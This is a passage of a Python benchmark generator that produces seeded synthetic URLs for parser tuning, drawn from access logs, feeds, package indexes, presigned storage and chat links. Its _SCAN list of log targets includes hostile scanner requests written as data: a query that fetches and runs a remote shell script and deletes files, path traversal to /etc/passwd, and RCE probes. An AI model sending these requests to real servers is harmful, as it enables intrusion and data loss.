"""The seventh held-out mix of benchmarks/parse_bench.py (``--mix seventh``, seed 2392).

Written for issue 32's seventh round before its author read the fast paths
(schemes/fastparse.py, schemes/precompiled.py, schemes/grammar.py, the default reading's
patterns) or measured it, so that the helpers tuning the parser this round have a mix none of
them shaped against.  It draws from where the URLs a program parses come *from* — other places
than the sixth mix's (CDN assets, OAuth redirects, tracking links, REST APIs, long paths,
WPT/curl/RFC examples, IDN hosts, IP literals, logins and one family a scheme):

- ``https access logs`` (weight 3): request targets of common/combined log format lines made
  absolute with the virtual host (``http://`` or ``https://`` + Host + target): the bulk of
  what log analysers and WAFs parse.  Crawlers' and scanners' targets among them: ``/.env``,
  ``/wp-login.php``, ``//xmlrpc.php``, ``/cgi-bin/%2e%2e/%2e%2e/bin/sh``, ``/..%2f..%2f``,
  ``/?XDEBUG_SESSION_START=…``, shell commands with ``+`` and ``;`` in a query, hosts that
  are IPv4 addresses (scanners come by address) or ``[IPv6]``, ports that are the default
  written out.
- ``https sitemaps/feeds`` (2): ``<loc>``, ``<link>``, ``<enclosure url>`` and ``<guid>`` of
  sitemaps, RSS and Atom: dated slugs, ``?p=123``, pagination, percent-encoded UTF-8 slugs,
  podcast enclosures behind measurement prefixes (``/redirect.mp3/host/path``) with
  ``?updated=``, feed paths.
- ``https package indexes`` (2): PyPI simple pages (``files.pythonhosted.org`` with
  ``#sha256=`` fragments, ``/simple/name/``), npm (``@scope%2fname``, ``/-/name-1.2.3.tgz``),
  Debian/Ubuntu mirrors (``+dfsg``, ``~rc1``, ``%2b`` epochs), git over https (``.git``,
  ``/info/refs?service=git-upload-pack``), the Go proxy (``!``-escaped capitals,
  ``@v/list``), crates.io, RubyGems, Maven-less (the sixth took Maven).
- ``https signed storage`` (2): S3 SigV4 (virtual-host and path style, ``%2F`` in the
  credential and the key, long ``X-Amz-Security-Token`` with ``%2B``/``%2F``/``%3D``), S3
  SigV2 (``AWSAccessKeyId``/``Expires``/``Signature``), GCS V4 (512 hex digit signatures,
  ``%40`` service accounts), Azure blob SAS with ``sig=…%3D`` and ``rscd`` content
  dispositions, R2 and MinIO (``:9000``).
- ``https chat/meetings`` (1): matrix.to with ``#/%23room%3Aserver`` and ``!id`` and
  ``?via=``, Slack archives with ``?thread_ts=``, Discord channels and CDN attachments with
  ``ex``/``is``/``hm``, Teams deep links (``19%3a…%40thread.tacv2``, a JSON ``context``
  encoded with lower-case escapes), Zoom joins with ``pwd``, Telegram and WhatsApp.
- ``https maps/search`` (2): Google Maps place/dir/search paths (``@lat,lng,zoomz``,
  ``data=!4m…``), search engines' result pages (``q=`` with ``+`` and ``%20`` and ``%22``,
  many parameters), OpenStreetMap's ``#map=`` fragments, Apple Maps, shops' and video
  sites' search and watch pages.
- ``http html hrefs`` (2): hrefs of HTML and Markdown pages joined to their page's URL the
  way naive crawlers join them (string concatenation, not RFC 3986 §5.2): ``../`` and
  ``./`` kept, empty segments (``//``), ``?`` alone, ``#`` alone, ``index.html#top``,
  ``;jsessionid=``, encoded spaces and parentheses.
- ``http hand-written`` (1): what people type or paste: mixed-case schemes and hosts
  (``HTTP://Example.COM``), trailing dots (``example.com.``), default ports written out
  (``:80``, ``:443``, ``:8080``), IPv4 with leading zeros (``010.000.000.001``: an RFC 3986
  reg-name), percent-encoded unreserved characters (``%7Euser``, ``%41``, ``%2D``),
  ``localhost`` and ``.local``/``.internal`` names.
- ``mailto cc/bcc/body`` (1): web pages' contact and share links: several addresses,
  ``cc``/``bcc``, ``subject`` and ``body`` with ``%20``, ``+`` (literal in mailto),
  ``%0D%0A``, a URL in the body encoded once, an empty address (``mailto:?subject=``),
  ``MAILTO:``.
- ``ftp mirrors`` (1): mirror lists and old READMEs: ``/pub/…`` trees, ``;type=d`` on
  directories and ``;type=i``/``a`` on files, anonymous logins with an e-mail password
  (``%40``), ``%2F`` for the root, ports.
- ``gopher holes`` (1): today's Gopher space: type 1 menus, type 7 searches with ``%09``
  terms, Gopher+ strings (``%09%09+``, ``%09%09!``, ``%09%09$``, a view), ``hURL:`` links,
  ``I``/``g``/``9`` items, phlog entries, ports 70 and 7070.
- ``file from browsers`` (1): what a browser's address bar shows for local files on Windows
  (``file:///C:/Users/…/My%20File%20(1).pdf``), on macOS (``/Users/…/Library/Application%20
  Support``, ``/Volumes/``) and on Linux (``/home/…``, ``/tmp``), ``file://server/share``
  as Windows writes UNC, UTF-8 names encoded, a fragment.
- ``news/nntp archives`` (1): Usenet archives' links: ``news:`` groups of the Big 8 and
  alt.*, message-ids of 1980s–2000s software (``1991Aug25.205708.9541@klaava.Helsinki.FI``,
  ``Pine.LNX…``, ``…$…@`` and ``.fsf@`` ids, ``%3C…%3E``), ``nntp://server/group/123``,
  ``news://server/group``.
- ``telnet logins`` (1): BBSes, MUDs and library catalogues: ``guest@``, ``user:pass@``,
  ports (``:23`` written out, ``:2323``, ``:4000``), a trailing ``/``.
- ``wais/prospero lists`` (1): old link lists (NCSA's What's New, early FAQs): WAIS
  databases with searches (``?a+b``) and typed document paths, Prospero paths with
  ``;type=``/``;version=`` fields.
- ``other schemes`` (1): the schemes programs hand to a general URL parser that omniurl
  keeps as generic URLs: ``git+https``/``ssh``, ``s3``/``gs``, database DSNs, ``magnet:``,
  ``tag:``, ``matrix:``, ``slack:``, ``sip:``, ``tel:``, ``geo:``, ``irc``/``ircs``,
  ``ws``/``wss``, ``webcal``, ``xmpp:``, small ``data:`` URLs.

Left to the sixth mix: gemini, mid/cid and urn (no family here draws them), IDN hosts, OAuth
redirects and tracking parameters.

Weights (blocks of every 23 a round): http(s) 15 — in what a program parses most URLs are
web URLs, and of those logs come first (a log analyser parses every line), then feeds,
package indexes, signed storage links and search/map links (each a common bulk source), then
hrefs; the other eight families one block each, so every scheme counts but none decides the
total.  Hosts are drawn anew most of the time (unique labels under many TLDs) and a known
host otherwise (``files.pythonhosted.org``, ``matrix.to``…, as users meet them): a parser's
cache of hosts would see little reuse.  Every URL is valid in the default reading
(tests/test_parse_bench.py), deterministic from the seed, no network.
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable

Gen = Callable[[random.Random, int], str]

SEED = 2392

_LOW = string.ascii_lowercase
_ALNUM = string.ascii_lowercase + string.digits
_MIXED = string.ascii_letters + string.digits
_B64 = string.ascii_letters + string.digits + "+/"
_HEX = "0123456789abcdef"
_UPPER = string.ascii_uppercase + string.digits
_TLDS = [
    "com",
    "org",
    "net",
    "io",
    "de",
    "nl",
    "se",
    "jp",
    "com.br",
    "co.uk",
    "ru",
    "info",
    "dev",
    "xyz",
    "edu",
    "gov",
    "ca",
    "fr",
    "it",
    "pl",
    "cz",
    "ch",
    "at",
    "me",
    "tv",
]
_WORDS = [
    "news",
    "blog",
    "about",
    "contact",
    "products",
    "services",
    "search",
    "login",
    "account",
    "cart",
    "help",
    "support",
    "docs",
    "api",
    "images",
    "static",
    "media",
    "download",
    "release",
    "category",
    "tag",
    "archive",
    "user",
    "profile",
    "events",
    "press",
    "careers",
    "privacy",
    "terms",
    "faq",
    "shop",
    "posts",
    "wiki",
    "forum",
]
_UTF8 = [
    "café",
    "größe",
    "über",
    "niño",
    "žluťoučký",
    "привет",
    "日本",
    "한국어",
    "ελληνικά",
    "çay",
    "łódź",
    "東京",
    "mañana",
    "façade",
    "crème-brûlée",
    "Ünïcödé",
]


def _w(r: random.Random, lo: int = 3, hi: int = 9, alpha: str = _ALNUM) -> str:
    return "".join(r.choices(alpha, k=r.randint(lo, hi)))


def _hex(r: random.Random, n: int) -> str:
    return "".join(r.choices(_HEX, k=n))


def _pct(text: str, upper: bool = True) -> str:
    """``text`` with every octet outside RFC 3986's unreserved set percent-encoded."""
    out = []
    for b in text.encode():
        c = chr(b)
        if c.isascii() and (c.isalnum() or c in "-._~"):
            out.append(c)
        else:
            out.append(f"%{b:02X}" if upper else f"%{b:02x}")
    return "".join(out)


def _slug(r: random.Random, lo: int = 2, hi: int = 7) -> str:
    return "-".join(r.choice([*_WORDS, _w(r, 3, 8, _LOW)]) for _ in range(r.randint(lo, hi)))


def _host(r: random.Random, i: int) -> str:
    """A registered name drawn anew: one to four labels, a TLD, the URL's number in it."""
    labels = [_w(r, 2, 12) for _ in range(r.randint(0, 2))]
    labels.append(f"{_w(r, 3, 10, _LOW)}{i % 997}" if r.random() < 0.5 else _w(r, 3, 14))
    if r.random() < 0.15:
        labels[-1] = f"{labels[-1]}-{_w(r, 2, 6)}"
    return ".".join([*labels, r.choice(_TLDS)])


def _v4(r: random.Random) -> str:
    return ".".join(str(r.randint(1 if k == 0 else 0, 254)) for k in range(4))


def _v6(r: random.Random) -> str:
    groups = [format(r.randint(0, 0xFFFF), "x") for _ in range(8)]
    cut = r.randint(0, 7)
    if r.random() < 0.6:  # "::" replaces a run of groups
        n = r.randint(1, 8 - cut)
        return "[" + ":".join(groups[:cut]) + "::" + ":".join(groups[cut + n :]) + "]"
    return "[" + ":".join(groups) + "]"


def _qval(r: random.Random) -> str:
    x = r.random()
    if x < 0.45:
        return _w(r, 1, 12)
    if x < 0.6:
        return str(r.randint(0, 10 ** r.randint(1, 10)))
    if x < 0.75:
        return "+".join(_w(r, 2, 8, _LOW) for _ in range(r.randint(2, 4)))
    if x < 0.9:
        return "%20".join(_w(r, 2, 8, _LOW) for _ in range(r.randint(2, 4)))
    return _pct(r.choice(_UTF8))


def _query(r: random.Random, lo: int, hi: int) -> str:
    return "&".join(f"{_w(r, 1, 10, _LOW)}={_qval(r)}" for _ in range(r.randint(lo, hi)))


# -- https access logs -------------------------------------------------------------------------

_SCAN = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "//xmlrpc.php",
    "/wp-admin/",
    "//wp-includes/wlwmanifest.xml",
    "/phpmyadmin/index.php",
    "/actuator/health",
    "/cgi-bin/%2e%2e/%2e%2e/%2e%2e/bin/sh",
    "/..%2f..%2f..%2fetc/passwd",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/owa/auth/logon.aspx?url=https%3a%2f%2fmail%2f&reason=0",
    "/?XDEBUG_SESSION_START=phpstorm",
    "/solr/admin/info/system?wt=json",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://{ip}/x.sh;sh+/tmp/x.sh",
    "/server-status",
    "/.well-known/security.txt",
    "/console/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/api/jsonws/invoke",
    "/remote/login?lang=en",
    "/cgi-bin/luci/;stok=/locale",
    "/_ignition/execute-solution",
    "/Autodiscover/Autodiscover.xml",
    "/sdk",
    "/manager/html",
]
_STATIC = [
    "favicon.ico",
    "robots.txt",
    "sitemap.xml",
    "apple-touch-icon.png",
    "ads.txt",
    "humans.txt",
    "manifest.json",
    "sw.js",
    "browserconfig.xml",
]


def _log_target(r: random.Random, i: int) -> str:
    x = r.randint(0, 19)
    if x <= 1:
        return r.choice(_SCAN).replace("{ip}", _v4(r))
    if x <= 3:
        return "/" + r.choice(_STATIC)
    if x <= 6:  # assets with a cache-busting name or query
        kind = r.choice(["js", "css", "img", "fonts"])
        ext = {
            "js": "js",
            "css": "css",
            "img": r.choice(["png", "jpg", "svg", "webp", "gif"]),
            "fonts": r.choice(["woff2", "woff", "ttf"]),
        }[kind]
        name = f"{_w(r, 3, 12, _LOW)}.{_hex(r, r.choice([8, 10, 20]))}.{ext}"
        tail = r.choice(
            ["", "", f"?v={r.randint(1, 999)}", f"?ver={r.randint(1, 6)}.{r.randint(0, 9)}"]
        )
        top = r.choice(["static", "assets", "dist", "wp-content/themes/" + _w(r)])
        return f"/{top}/{kind}/{name}{tail}"
    if x <= 10:  # pages
        path = "/" + "/".join(r.choice(_WORDS) for _ in range(r.randint(1, 4)))
        path += r.choice(["", "/", ".html", ".php", f"/{r.randint(1, 99999)}"])
        if r.random() < 0.4:
            path += "?" + _query(r, 1, 4)
        return path
    if x <= 13:  # APIs behind the site
        return f"/api/v{r.randint(1, 3)}/{r.choice(_WORDS)}/{r.randint(1, 10**7)}" + r.choice(
            [
                "",
                f"/{r.choice(_WORDS)}",
                f"?fields=id,name,{_w(r, 3, 8, _LOW)}",
                f"?page={r.randint(1, 50)}&per_page={r.choice([10, 25, 100])}",
                f"?since={r.randint(2019, 2026)}-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}T00"
                "%3A00%3A00Z",
            ]
        )
    if x <= 15:  # searches and logins with an encoded next
        return r.choice(
            [
                f"/search?q={_qval(r)}&page={r.randint(1, 20)}",
                f"/login?next=%2F{r.choice(_WORDS)}%2F{r.randint(1, 999)}",
                f"/?s={_qval(r)}",
                f"/index.php?option=com_content&view=article&id={r.randint(1, 9999)}"
                f"&Itemid={r.randint(1, 999)}",
                f"/?p={r.randint(1, 99999)}",
            ]
        )
    if x <= 17:  # uploads people linked to
        return (
            f"/wp-content/uploads/{r.randint(2010, 2026)}/{r.randint(1, 12):02d}/"
            f"{_slug(r, 1, 4)}{r.choice(['', '-1', '-scaled', '-300x200', '%20(1)'])}."
            f"{r.choice(['jpg', 'png', 'pdf', 'JPG', 'mp4'])}"
        )
    return r.choice(
        ["/", "/?", "/index.html", f"/{_w(r, 1, 20, _MIXED)}", f"/~{_w(r, 3, 8, _LOW)}/"]
    )


def log_line(r: random.Random, i: int) -> str:
    scheme = r.choice(["https"] * 3 + ["http"])
    x = r.random()
    if x < 0.72:
        host = _host(r, i) if r.random() < 0.7 else f"www.{_host(r, i)}"
    elif x < 0.92:
        host = _v4(r)
    elif x < 0.97:
        host = _v6(r)
    else:
        host = r.choice(["localhost", "127.0.0.1", f"{_w(r, 3, 8, _LOW)}.local"])
    y = r.random()
    if y < 0.08:
        port = ":80" if scheme == "http" else ":443"
    elif y < 0.16:
        port = f":{r.choice([8080, 8443, 8000, 3000, 5000, 9000, 81])}"
    else:
        port = ""
    return f"{scheme}://{host}{port}{_log_target(r, i)}"


# -- https sitemaps/feeds ----------------------------------------------------------------------

_PODCAST = [
    "dts.podtrac.com/redirect.mp3",
    "chrt.fm/track/" + "{t}",
    "pdst.fm/e",
    "op3.dev/e",
    "pfx.vpixl.com/{t}",
]
_AUDIO = [
    "traffic.libsyn.com/secure/{s}",
    "media.transistor.fm/{h}",
    "anchor.fm/s/{h}/podcast/play",
    "{s}.podbean.com/mf/web/{h}",
    "traffic.megaphone.fm",
]


def feed_item(r: random.Random, i: int) -> str:
    host = _host(r, i) if r.random() < 0.8 else f"www.{_host(r, i)}"
    x = r.randint(0, 9)
    if x <= 3:  # a dated post
        y, m, d = r.randint(2004, 2026), r.randint(1, 12), r.randint(1, 28)
        style = r.randint(0, 3)
        if style == 0:
            path = f"/{y}/{m:02d}/{d:02d}/{_slug(r)}/"
        elif style == 1:
            path = f"/{y}/{m:02d}/{_slug(r)}.html"
        elif style == 2:
            path = f"/blog/{_slug(r)}-{r.randint(1, 99999)}"
        else:
            path = (
                f"/{r.choice(['posts', 'articles', 'news'])}/{y}-{m:02d}-{d:02d}-{_slug(r, 1, 4)}"
            )
        return f"https://{host}{path}"
    if x <= 4:  # a slug in another script, encoded as a CMS writes it
        return (
            f"https://{host}/{r.choice(['tag', 'category', 'blog'])}/"
            f"{_pct(r.choice(_UTF8), r.random() < 0.7)}-{_w(r, 3, 8, _LOW)}/"
        )
    if x <= 5:  # WordPress guids and pagination
        return r.choice(
            [
                f"https://{host}/?p={r.randint(1, 99999)}",
                f"http://{host}/?page_id={r.randint(1, 9999)}",
                f"https://{host}/{r.choice(['category', 'tag', 'author'])}/{_slug(r, 1, 3)}/page"
                f"/{r.randint(2, 40)}/",
                f"https://{host}/feed/",
                f"https://{host}/{_slug(r, 1, 3)}/feed/atom/",
                f"https://{host}/index.xml",
                f"https://{host}/sitemap-{r.choice(['posts', 'pages', 'tags'])}-{r.randint(1, 9)}"
                ".xml",
            ]
        )
    if x <= 7:  # a podcast enclosure behind measurement prefixes
        show = _w(r, 4, 12, _LOW)
        audio = r.choice(_AUDIO).format(s=show, h=_hex(r, 8))
        prefixes = "".join(
            "/" + p.format(t=_w(r, 5, 6, _MIXED).upper())
            for p in r.sample(_PODCAST, r.randint(0, 2))
        )
        stem = f"https:/{prefixes}/{audio}" if prefixes else f"https://{audio}"
        name = r.choice(
            [f"{_hex(r, 8)}-{_hex(r, 4)}-{_hex(r, 4)}", _slug(r, 1, 3), f"EP{r.randint(1, 400)}"]
        )
        tail = r.choice(
            [
                "",
                f"?updated={r.randint(1_600_000_000, 1_800_000_000)}",
                f"?dest-id={r.randint(10**5, 10**7)}",
                "?source=rss",
            ]
        )
        return f"{stem}/{name}.mp3{tail}"
    if x <= 8:  # a news site's article with an id and a section
        return (
            f"https://{host}/{r.choice(['world', 'politics', 'sport', 'tech', 'business'])}/"
            f"{r.choice(['', 'article/', 'story/'])}{_slug(r, 3, 9)}-{r.randint(10**6, 10**9)}"
            + r.choice(["", ".html", ".amp", "?ref=rss", "#comments"])
        )
    return r.choice(  # Atom ids that are http URLs, YouTube and Medium feeds' links
        [
            f"https://www.youtube.com/watch?v={_w(r, 11, 11, _MIXED + '-_')}",
            f"https://medium.com/@{_w(r, 4, 12, _LOW)}/{_slug(r, 3, 8)}-{_hex(r, 12)}?source=rss"
            f"-{_hex(r, 12)}------2",
            f"https://{host}/feeds/posts/default?alt=rss&max-results={r.randint(5, 500)}",
            f"https://{host}/?feed=rss2&cat={r.randint(1, 99)}",
        ]
    )


# -- https package indexes ---------------------------------------------------------------------


def _pyname(r: random.Random) -> str:
    return r.choice(["-", "_", "."]).join(_w(r, 2, 8, _LOW) for _ in range(r.randint(1, 3)))


def package_index(r: random.Random, i: int) -> str:
    x = r.randint(0, 11)
    mirror = _host(r, i)
    ver = f"{r.randint(0, 30)}.{r.randint(0, 40)}.{r.randint(0, 20)}"
    if x <= 2:  # PyPI simple page links: the blob path and the file's digest
        name = _pyname(r)
        dist = name.replace("-", "_").replace(".", "_")
        fname = r.choice(
            [
                f"{dist}-{ver}-py3-none-any.whl",
                f"{dist}-{ver}.tar.gz",
                f"{dist}-{ver}-cp3{r.randint(8, 13)}-cp3{r.randint(8, 13)}-manylinux_2_17_x86_64"
                ".manylinux2014_x86_64.whl",
                f"{dist}-{ver}-cp312-cp312-macosx_11_0_arm64.whl",
                f"{dist}-{ver}-cp311-cp311-win_amd64.whl",
            ]
        )
        host = "files.pythonhosted.org" if r.random() < 0.6 else f"{mirror}/pypi"
        frag = r.choice(["#sha256=" + _hex(r, 64)] * 4 + ["", "#md5=" + _hex(r, 32)])
        return f"https://{host}/packages/{_hex(r, 2)}/{_hex(r, 2)}/{_hex(r, 60)}/{fname}{frag}"
    if x <= 3:
        name = _pyname(r)
        return r.choice(
            [
                f"https://pypi.org/simple/{name}/",
                f"https://{mirror}/simple/{name}/",
                f"https://pypi.org/project/{name}/{ver}/",
                f"https://{mirror}/repository/pypi-proxy/simple/{name}/",
                f"https://pypi.org/pypi/{name}/json",
            ]
        )
    if x <= 5:  # npm: scoped names with an encoded "/", tarballs
        scope, name = _w(r, 2, 10, _LOW), _pyname(r).replace("_", "-").replace(".", "-")
        host = "registry.npmjs.org" if r.random() < 0.6 else f"{mirror}/npm"
        return r.choice(
            [
                f"https://{host}/{name}",
                f"https://{host}/@{scope}%2f{name}",
                f"https://{host}/@{scope}%2F{name}",
                f"https://{host}/{name}/-/{name}-{ver}.tgz",
                f"https://{host}/@{scope}/{name}/-/{name}-{ver}.tgz",
                f"https://{host}/{name}/-/{name}-{ver}-beta.{r.randint(0, 9)}.tgz",
            ]
        )
    if x <= 7:  # Debian and Ubuntu mirrors
        src = _w(r, 2, 12, _LOW)
        pool = f"lib{src[0]}" if r.random() < 0.3 else src[0]
        dver = r.choice(
            [ver, f"{ver}+dfsg", f"{ver}~rc{r.randint(1, 4)}", f"{ver}+ds1", f"1%3a{ver}"]
        )
        rev = r.choice(
            [
                f"-{r.randint(1, 9)}",
                f"-{r.randint(1, 9)}ubuntu{r.randint(1, 5)}",
                f"-{r.randint(1, 3)}+deb12u{r.randint(1, 9)}",
                "",
            ]
        )
        arch = r.choice(["amd64", "arm64", "all", "i386", "riscv64"])
        dist = r.choice(["bookworm", "trixie", "sid", "jammy", "noble", "bookworm-updates"])
        host = r.choice(
            [
                "deb.debian.org",
                "security.debian.org",
                "archive.ubuntu.com",
                f"ftp.{r.choice(['de', 'fr', 'nl', 'us', 'jp'])}.debian.org",
                mirror,
            ]
        )
        return r.choice(
            [
                f"http://{host}/debian/pool/main/{pool}/{src}/{src}_{dver}{rev}_{arch}.deb",
                f"https://{host}/debian/pool/main/{pool}/{src}/{src}_{dver}{rev}.dsc",
                f"http://{host}/ubuntu/dists/{dist}/main/binary-{arch}/Packages.xz",
                f"https://{host}/debian/dists/{dist}/InRelease",
                f"http://{host}/debian/pool/main/{pool}/{src}/{src}_{dver}.orig.tar.xz",
            ]
        )
    if x <= 9:  # git over https
        forge = r.choice(
            ["github.com", "gitlab.com", "codeberg.org", "bitbucket.org", f"git.{mirror}"]
        )
        owner, repo = _w(r, 2, 14, _MIXED + "-"), _w(r, 2, 20, _ALNUM + "-_.")
        login = r.choice(
            ["", "", "", "git@", f"oauth2:{_w(r, 20, 40, _MIXED)}@", f"{_w(r, 3, 8, _LOW)}@"]
        )
        return r.choice(
            [
                f"https://{login}{forge}/{owner}/{repo}.git",
                f"https://{forge}/{owner}/{repo}",
                f"https://{forge}/{owner}/{repo}.git/info/refs?service=git-upload-pack",
                f"https://{forge}/{owner}/{repo}/archive/refs/tags/v{ver}.tar.gz",
                f"https://{forge}/{owner}/{_w(r, 3, 8, _LOW)}/{repo}.git",
                f"https://{forge}/{owner}/{repo}/-/archive/{_hex(r, 40)}/{repo}-{_hex(r, 40)}.zip",
            ]
        )
    if x <= 10:  # the Go module proxy: capitals escaped as "!"
        mod = "/".join(
            "".join(f"!{c.lower()}" if c.isupper() else c for c in _w(r, 3, 12, _MIXED + "-"))
            for _ in range(r.randint(1, 3))
        )
        return (
            f"https://{r.choice(['proxy.golang.org', 'goproxy.io', mirror])}/github.com/{mod}/@v/"
            + r.choice(
                [
                    f"v{ver}.zip",
                    f"v{ver}.mod",
                    "list",
                    f"v{ver}.info",
                    f"v0.0.0-2024{r.randint(10**9, 10**10 - 1)}-{_hex(r, 12)}.info",
                ]
            )
        )
    return r.choice(  # crates.io and RubyGems
        [
            f"https://static.crates.io/crates/{_w(r, 3, 12, _LOW)}/{_w(r, 3, 12, _LOW)}-{ver}"
            ".crate",
            f"https://index.crates.io/{_w(r, 2, 2, _LOW)}/{_w(r, 2, 2, _LOW)}/{_w(r, 4, 12, _LOW)}",
            f"https://rubygems.org/gems/{_pyname(r)}-{ver}.gem",
            f"https://{mirror}/api/v1/crates/{_w(r, 3, 12, _LOW)}/{ver}/download",
        ]
    )


# -- https signed storage -------------------------------------------------------------------


def _b64(r: random.Random, n: int) -> str:
    """Base64 as it sits in a query: ``+``, ``/`` and ``=`` percent-encoded."""
    raw = "".join(r.choices(_B64, k=n)) + "=" * r.randint(0, 2)
    return raw.replace("+", "%2B").replace("/", "%2F").replace("=", "%3D")


def _key(r: random.Random) -> str:
    parts = [_w(r, 2, 12, _ALNUM + "-_") for _ in range(r.randint(1, 4))]
    name = (
        f"{_w(r, 3, 16, _MIXED + '-_')}."
        f"{r.choice(['jpg', 'png', 'pdf', 'csv', 'parquet', 'zip', 'mp4', 'json', 'gz'])}"
    )
    if r.random() < 0.2:
        name = name.replace("_", "%20", 1)
    return "/".join([*parts, name]) if r.random() < 0.8 else "%2F".join([*parts, name])


def _stamp(r: random.Random) -> str:
    return (
        f"{r.randint(2020, 2026)}{r.randint(1, 12):02d}{r.randint(1, 28):02d}T"
        f"{r.randint(0, 23):02d}{r.randint(0, 59):02d}{r.randint(0, 59):02d}Z"
    )


def presigned(r: random.Random, i: int) -> str:
    bucket = _w(r, 3, 20, _LOW + "-" + string.digits).strip("-") + str(i % 1000)
    region = r.choice(["us-east-1", "eu-west-1", "ap-southeast-2", "eu-central-1", "us-west-2"])
    x = r.randint(0, 9)
    if x <= 4:  # S3 SigV4
        stamp = _stamp(r)
        cred = (
            f"{r.choice(['AKIA', 'ASIA'])}{_w(r, 16, 16, _UPPER)}"
            f"%2F{stamp[:8]}%2F{region}%2Fs3%2Faws4_request"
        )
        q = [
            "X-Amz-Algorithm=AWS4-HMAC-SHA256",
            f"X-Amz-Credential={cred}",
            f"X-Amz-Date={stamp}",
            f"X-Amz-Expires={r.choice([300, 900, 3600, 86400, 604800])}",
        ]
        if cred.startswith("ASIA"):
            q.append(f"X-Amz-Security-Token={_b64(r, r.randint(300, 900))}")
        q += ["X-Amz-SignedHeaders=host", f"X-Amz-Signature={_hex(r, 64)}"]
        if r.random() < 0.3:
            q.insert(
                0, f"response-content-disposition=attachment%3B%20filename%3D%22{_w(r)}.pdf%22"
            )
        if r.random() < 0.2:
            q.insert(0, "x-id=GetObject")
        host = r.choice(
            [
                f"{bucket}.s3.{region}.amazonaws.com",
                f"{bucket}.s3.amazonaws.com",
                f"s3.{region}.amazonaws.com/{bucket}",
                f"{bucket}.s3.dualstack.{region}.amazonaws.com",
            ]
        )
        return f"https://{host}/{_key(r)}?{'&'.join(q)}"
    if x <= 5:  # S3 SigV2, still handed out
        return (
            f"https://{bucket}.s3.amazonaws.com/{_key(r)}?AWSAccessKeyId=AKIA"
            f"{_w(r, 16, 16, string.ascii_uppercase + string.digits)}"
            f"&Expires={r.randint(1_600_000_000, 1_900_000_000)}"
            f"&Signature={_b64(r, 27)}"
        )
    if x <= 7:  # GCS V4
        stamp = _stamp(r)
        sa = (
            f"{_w(r, 3, 12, _LOW)}%40{_w(r, 4, 14, _LOW)}-{r.randint(100000, 999999)}"
            ".iam.gserviceaccount.com"
        )
        return (
            f"https://storage.googleapis.com/{bucket}/{_key(r)}?X-Goog-Algorithm=GOOG4-RSA-SHA256"
            f"&X-Goog-Credential={sa}%2F{stamp[:8]}%2Fauto%2Fstorage%2Fgoog4_request"
            f"&X-Goog-Date={stamp}&X-Goog-Expires={r.choice([600, 3600, 604800])}"
            f"&X-Goog-SignedHeaders=host&X-Goog-Signature={_hex(r, 512)}"
        )
    if x <= 8:  # Azure blob SAS
        se = (
            f"{r.randint(2024, 2027)}-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}"
            f"T{r.randint(0, 23):02d}%3A{r.randint(0, 59):02d}%3A00Z"
        )
        q = [
            f"sv={r.choice(['2021-08-06', '2022-11-02', '2023-11-03'])}",
            f"se={se}",
            f"sr={r.choice(['b', 'c'])}",
            f"sp={r.choice(['r', 'rw', 'racwdl'])}",
        ]
        if r.random() < 0.4:
            q.append(f"rscd=attachment%3B%20filename%3D{_w(r)}.xlsx")
        q.append(f"sig={_b64(r, 43)}")
        r.shuffle(q)
        account = f"{_w(r, 3, 20, _LOW)}{i % 100}"
        return f"https://{account}.blob.core.windows.net/{bucket}/{_key(r)}?{'&'.join(q)}"
    host = r.choice(  # R2 and MinIO: the same SigV4 on other hosts
        [f"{_hex(r, 32)}.r2.cloudflarestorage.com", f"minio.{_host(r, i)}:9000", f"{_v4(r)}:9000"]
    )
    stamp = _stamp(r)
    return (
        f"https://{host}/{bucket}/{_key(r)}?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential="
        f"{_w(r, 20, 20, _MIXED)}%2F{stamp[:8]}%2Fauto%2Fs3%2Faws4_request&X-Amz-Date={stamp}"
        f"&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature={_hex(r, 64)}"
    )


# -- https chat/meetings ------------------------------------------------------------------


def _uuid(r: random.Random) -> str:
    return f"{_hex(r, 8)}-{_hex(r, 4)}-{_hex(r, 4)}-{_hex(r, 4)}-{_hex(r, 12)}"


def chat_link(r: random.Random, i: int) -> str:
    server = r.choice(["matrix.org", "mozilla.org", "kde.org", _host(r, i)])
    x = r.randint(0, 11)
    if x <= 2:  # matrix.to: the identifier in the fragment, encoded (a raw "#" may not be)
        ident = r.choice(
            [
                f"%23{_w(r, 3, 16, _LOW + '-_')}%3A{server}",
                f"!{_w(r, 18, 18, _MIXED)}%3A{server}",
                f"%40{_w(r, 3, 12, _LOW)}%3A{server}",
                f"!{_w(r, 18, 18, _MIXED)}%3A{server}/%24{_w(r, 43, 43, _MIXED + '-_')}",
            ]
        )
        via = "".join(
            f"{'?' if k == 0 else '&'}via={s}"
            for k, s in enumerate(r.sample(["matrix.org", server, _host(r, i)], r.randint(0, 2)))
        )
        return f"https://matrix.to/#/{ident}{via}"
    if x <= 4:  # Slack
        ts = f"{r.randint(1_500_000_000, 1_800_000_000)}{r.randint(100000, 999999)}"
        team = r.choice([_w(r, 3, 14, _LOW + "-"), _w(r, 3, 10, _LOW)]).strip("-") or "t"
        return r.choice(
            [
                f"https://{team}.slack.com/archives"
                f"/C{_w(r, 10, 10, string.ascii_uppercase + string.digits)}/p{ts}",
                f"https://{team}.slack.com/archives"
                f"/C{_w(r, 8, 10, string.ascii_uppercase + string.digits)}/p{ts}?thread"
                f"_ts={ts[:10]}.{ts[10:]}"
                f"&cid=C{_w(r, 10, 10, string.ascii_uppercase + string.digits)}",
                "https://app.slack.com/client"
                f"/T{_w(r, 8, 10, string.ascii_uppercase + string.digits)}"
                f"/C{_w(r, 10, 10, string.ascii_uppercase + string.digits)}",
                f"https://join.slack.com/t/{team}/shared_invite/zt-{_w(r, 10, 12, _ALNUM)}"
                f"-{_w(r, 22, 22, _MIXED + '_')}",
            ]
        )
    if x <= 6:  # Discord
        sf = lambda: str(r.randint(10**17, 10**19 - 1))  # noqa: E731
        return r.choice(
            [
                f"https://discord.com/channels/{sf()}/{sf()}/{sf()}",
                f"https://discord.com/channels/{sf()}/{sf()}",
